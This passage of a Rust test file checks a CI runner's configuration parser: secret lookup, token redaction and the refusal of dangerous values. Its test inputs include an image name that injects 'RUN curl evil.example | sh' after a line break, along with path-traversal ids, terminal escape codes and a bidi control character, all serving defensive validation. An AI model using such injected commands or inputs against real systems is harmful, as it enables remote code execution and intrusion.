        &secret_base("").replace("secret:cc", "secret:nope"),
        &secrets,
        "/etc/paas.toml:12: key `runners[0].cc_token`: secret `nope` not found in secrets file \
         /etc/secrets.toml",
    );
    check_secrets(
        &secret_base("").replace("secret:watch", "secret:number"),
        &secrets,
        "/etc/paas.toml:15: key `runners[0].paas_job_trace_watch.token`: secret `number` in \
         secrets file /etc/secrets.toml is not a string",
    );
    check_secrets(
        &secret_base("").replace("secret:s3", "secret:nope"),
        &secrets,
        "/etc/paas.toml:17: key `runners[0].cache.s3.SecretKey`: secret `nope` not found in \
         secrets file /etc/secrets.toml",
    );
    check_secrets(
        &secret_base("").replace("secret:runner", "secret:"),
        &secrets,
        "/etc/paas.toml:9: key `runners[0].token`: empty secret name after `secret:`",
    );
    check_secrets(
        &secret_base(""),
        &[(
            "/etc/secrets.toml",
            "runner = \"from-secrets-runner-token\"\ncc = \"from-secrets-cc-token",
        )],
        "/etc/paas.toml:13: key `runners[0].secrets_file`: secrets file /etc/secrets.toml: \
         invalid TOML at line 2, column 28: invalid basic string",
    );
    check(
        &base_with(
            "token = \"glrt-main-token-value\"",
            "token = \"secret:runner\"",
        ),
        "/etc/paas.toml:9: key `runners[0].token`: refers to secret `runner`, but this runner \
         has no `secrets_file`",
    );
}

#[test]
fn inner_config_is_the_forwarded_runner() {
    let text = README_SINGLE_ORGANIZATION.replace(
        "  [runners.cc_extra_env]",
        "  quota_max_fraction = 0.5\n  heptapod_runner_main_image = \"runner:1\"\n  \
         paas_keep_resources_for_reuse_seconds = 3\n  limit = 4\n  \
         environment = [\"A=secret:not-resolved-in-arrays\"]\n  \
         [runners.paas_job_trace_watch]\n    token = \"watch-token\"\n  \
         [runners.cc_extra_env]",
    );
    let config = parse_ok(&text);
    let inner = &config.runners[0].inner_config;
    let keys: Vec<&str> = inner.keys().map(String::as_str).collect();
    assert_eq!(
        keys,
        [
            "cache",
            "custom_build_dir",
            "docker",
            "environment",
            "executor",
            "limit",
            "name",
            "token",
            "url"
        ]
    );
    let expected: toml::Table = match toml::from_str(
        r#"
        name = "clever-cloud"
        url = "https://heptapod.example.com"
        token = "D3adNQYu8.placeholder.not.a.token"
        executor = "docker"
        limit = 4
        environment = ["A=secret:not-resolved-in-arrays"]
        [custom_build_dir]
        [cache]
          [cache.s3]
          ServerAddress = "cellar-c2.services.clever-cloud.com"
          AccessKey = "dEA7gjmYM98gobVi6Y1x"
          SecretKey = "v0tdpjgpsDRqaSvIndvHAXFmjbpEd958gbZuO7yv"
          BucketName = "heptapod-ci"
          [cache.gcs]
        [docker]
          helper_image = "registry.heptapod.net/heptapod/heptapod-runner/helper:x86_64-latest"
          tls_verify = false
          image = "debian:bullseye"
          privileged = false
          disable_entrypoint_overwrite = false
          oom_kill_disable = false
          disable_cache = false
          volumes = ["/cache"]
          shm_size = 0
        "#,
    ) {
        Ok(table) => table,
        Err(error) => panic!("{error}"),
    };
    assert_eq!(inner, &expected);
    let serialized = match toml::to_string(&toml::Value::Table(inner.clone())) {
        Ok(text) => text,
        Err(error) => panic!("{error}"),
    };
    for absent in [
        "cc_",
        "D3adNQYu8OCjkYDbwDaG",
        "watch-token",
        "bb52e490",
        "orga_07cf",
        "runner:1",
        "paas_",
    ] {
        assert!(!serialized.contains(absent), "{absent} in {serialized}");
    }
}

#[test]
fn inline_runners_and_dotted_keys() {
    let text = r#"runners = [
  { name = "a", url = "http://a.example", token = "tokenAAAA1", executor = "clever-docker", cc_orga_id = "orga_o", cc_token = "t", cc_extra_env.X = 1, cc_extra_env.CC_ENABLE_HEPTAPOD_RUNNER = "true", docker = { image = "alpine" } },
]
[quota_computation]
reference_runner = "a"
reference_flavor = "M"
reference_jobs_count = 1
"#;
    let config = parse_ok(text);
    let runner = &config.runners[0];
    assert_eq!(runner.line, 2);
    assert_eq!(runner.cc.extra_env.get("X").map(String::as_str), Some("1"));
    assert_eq!(
        runner
            .inner_config
            .get("docker")
            .and_then(|docker| docker.get("image"))
            .and_then(toml::Value::as_str),
        Some("alpine")
    );
    check(
        &text.replace("cc_orga_id = \"orga_o\", ", ""),
        "/etc/paas.toml:2: key `runners[0].cc_orga_id`: missing required key",
    );
}

#[test]
fn debug_shows_no_token() {
    let text = format!(
        "{BASE}[runners.paas_job_trace_watch]\ntoken = \"glrt-second-token\"\n\
         [runners.cache.s3]\nSecretKey = \"from-secrets-s3-key\"\n"
    );
    let debug = format!("{:?}", parse_ok(&text));
    assert_no_secret(&debug);
    assert!(debug.contains("[REDACTED]"));
}

/// Values that would fail late or dangerously: each refused at start with
/// its line and key, without quoting a secret.
#[test]
fn dangerous_values_are_refused_with_what_to_write_instead() {
    let cases = [
        (
            "cc_token = \"cc-main-token-value\"",
            "cc_token = \"cc-main-token-value\\n\"",
            "/etc/paas.toml:12: key `runners[0].cc_token`: the Clever Cloud token contains a \
             control character (a line break, tab or escape code) at character 20; write the \
             token alone on one line, exactly as it was given, without escapes such as \\n",
        ),
        (
            "cc_token = \"cc-main-token-value\"",
            "cc_token = \"cc-main\\u001b[2Jtoken-value\"",
            "/etc/paas.toml:12: key `runners[0].cc_token`: the Clever Cloud token contains a \
             control character (a line break, tab or escape code) at character 8; write the \
             token alone on one line, exactly as it was given, without escapes such as \\n",
        ),
        (
            "token = \"glrt-main-token-value\"",
            "token = \"\"\"\nglrt-main-token-value\n\"\"\"",
            // A TOML multi-line string drops the first line break only.
            "/etc/paas.toml:9: key `runners[0].token`: the runner token contains a control \
             character (a line break, tab or escape code) at character 22; write the token \
             alone on one line, exactly as it was given, without escapes such as \\n",
        ),
        (
            "token = \"glrt-main-token-value\"",
            "token = \"glrt-main-token-value\\r\"",
            "/etc/paas.toml:9: key `runners[0].token`: the runner token contains a control \
             character (a line break, tab or escape code) at character 22; write the token \
             alone on one line, exactly as it was given, without escapes such as \\n",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "cc_token = \"cc-main-token-value\"\n\
             heptapod_runner_main_image = \"alpine\\nRUN curl evil.example | sh\"\n",
            "/etc/paas.toml:13: key `runners[0].heptapod_runner_main_image`: the image name \
             contains a control character (a line break, tab or escape code) at character 7; \
             write one image reference on one line, such as \
             \"registry.heptapod.net/heptapod/heptapod-runner:latest\"",
        ),
        (
            "cc_orga_id = \"orga_x\"",
            "cc_orga_id = \"orga_x/../../self\"",
            "/etc/paas.toml:11: key `runners[0].cc_orga_id`: \"orga_x/../../self\" is not a \
             Clever Cloud organisation id: it contains characters other than letters, digits, \
             `-` and `_`; write the id Clever Cloud shows for the organisation, such as \
             \"orga_07cf2ef0-c9ad-4f04-b492-94c164f95c76\" (or \"user_…\" for a personal account)",
        ),
        (
            "cc_orga_id = \"orga_x\"",
            "cc_orga_id = \"../orga_x\"",
            "/etc/paas.toml:11: key `runners[0].cc_orga_id`: \"../orga_x\" is not a Clever \
             Cloud organisation id: it does not start with `orga_` or `user_`; write the id \
             Clever Cloud shows for the organisation, such as \
             \"orga_07cf2ef0-c9ad-4f04-b492-94c164f95c76\" (or \"user_…\" for a personal account)",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "cc_token = \"cc-main-token-value\"\n[runners.cc_extra_env]\nCC_MOUNT_X = \"1\"\n",
            "/etc/paas.toml:13: key `runners[0].cc_extra_env`: [runners.cc_extra_env] has no \
             CC_ENABLE_HEPTAPOD_RUNNER; add the line CC_ENABLE_HEPTAPOD_RUNNER = \"true\" to it \
             (heptapod-paas-runner requires it for the job machines)",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "cc_token = \"cc-main-token-value\"\n[runners.cc_extra_env]\n\
             CC_ENABLE_HEPTAPOD_RUNNER = false\n",
            "/etc/paas.toml:13: key `runners[0].cc_extra_env`: [runners.cc_extra_env] sets \
             CC_ENABLE_HEPTAPOD_RUNNER to another value than \"true\"; add the line \
             CC_ENABLE_HEPTAPOD_RUNNER = \"true\" to it (heptapod-paas-runner requires it for \
             the job machines)",
        ),
        (
            "cc_token = \"cc-main-token-value\"\n",
            "cc_token = \"cc-main-token-value\"\n[runners.paas_job_trace_watch]\n\
             token = \"glrt-second-token\\t\"\n",
            "/etc/paas.toml:14: key `runners[0].paas_job_trace_watch.token`: the job log watch \
             token contains a control character (a line break, tab or escape code) at \
             character 18; write the token alone on one line, exactly as it was given, \
             without escapes such as \\n",
        ),
    ];
    for (old, new, expect) in cases {
        check(&base_with(old, new), expect);
    }
    // What is accepted.
    for orga_id in [
        "orga_07cf2ef0-c9ad-4f04-b492-94c164f95c76",
        "user_1a2b",
        "orga_x",
    ] {
        parse_ok(&base_with(
            "cc_orga_id = \"orga_x\"",
            &format!("cc_orga_id = \"{orga_id}\""),
        ));
    }
    for bad in [
        "orga_",
        "orga x",
        "orga_x?y",
        "orga_x#y",
        "app_1",
        "orga_x\u{202e}",
    ] {
        let error = parse_err(&base_with(
            "cc_orga_id = \"orga_x\"",
            &format!("cc_orga_id = \"{bad}\""),
        ));
        assert_eq!(error.key(), Some("runners[0].cc_orga_id"), "{bad}: {error}");
        assert!(
            !error.to_string().contains('\u{202e}'),
            "{bad}: raw control in {error}"
        );
    }
    let config = parse_ok(&base_with(
        "cc_token = \"cc-main-token-value\"\n",
        "cc_token = \"cc-main-token-value\"\n[runners.cc_extra_env]\n\
         CC_ENABLE_HEPTAPOD_RUNNER = \"true\"\n",
    ));
    assert_eq!(config.runners[0].cc.extra_env.len(), 1);
}

/// What `gitlab-runner register` writes (global part), plus this program's
/// keys: it must load, `check_interval = 0` meaning the default.
#[test]
fn a_file_written_by_gitlab_runner_register_loads() {
    let text = format!(
        "concurrent = 1\ncheck_interval = 0\nshutdown_timeout = 0\nlog_format = \"runner\"\n\
         log_level = \"warning\"\n\n[session_server]\n  session_timeout = 1800\n{BASE}\
         limit = 2\ntls-ca-file = \"/etc/ssl/private-ca.pem\"\ncc_tls_ca_file = \"/etc/cc-ca.pem\"\n\
         [runners.cache]\n  MaxUploadedArchiveSize = 0\n"
    );
    let config = parse_ok(&text);
    assert_eq!(config.check_interval, crate::DEFAULT_CHECK_INTERVAL);
    assert_eq!(config.log_format.as_deref(), Some("runner"));
    assert_eq!(config.log_level.as_deref(), Some("warning"));
    assert_eq!(config.warnings.len(), 2, "{:?}", config.warnings);
    let runner = &config.runners[0];
    assert_eq!(runner.limit, Some(2));
    assert_eq!(
        runner.tls_ca_file.as_deref(),
        Some(Path::new("/etc/ssl/private-ca.pem"))
    );
    assert_eq!(
        runner.cc.tls_ca_file.as_deref(),
        Some(Path::new("/etc/cc-ca.pem"))
    );
    // `limit` still reaches the inner runner; a file of this machine does not.
    assert_eq!(
        runner.inner_config.get("limit"),
        Some(&toml::Value::Integer(2))
    );
    assert!(runner.inner_config.get("tls-ca-file").is_none());
    // 0 means no limit of its own, as in gitlab-runner.
    let config = parse_ok(&format!("{BASE}limit = 0\n"));
    assert_eq!(config.runners[0].limit, None);
    let error = parse_err(&format!("{BASE}limit = -1\n"));
    assert!(
        error.to_string().contains("key `runners[0].limit`"),
        "{error}"
    );
}
